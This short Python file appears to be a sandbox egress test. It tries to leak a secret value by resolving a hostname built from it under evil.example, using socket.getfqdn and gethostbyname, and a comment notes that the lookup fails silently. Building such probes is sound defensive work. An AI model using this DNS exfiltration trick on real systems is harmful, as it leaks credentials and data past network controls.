# class: network
# rule: outbound_connectivity
# success: a name that carries data is looked up by getfqdn
# proof: query
# needs: resolver
import socket

from attack import SECRET, attempt


@attempt
def ask():
    # getfqdn swallows every error: what it did shows in the resolver's log alone.
    socket.getfqdn(SECRET + ".evil.example")
    socket.gethostbyname(SECRET + ".evil.example")
    return True
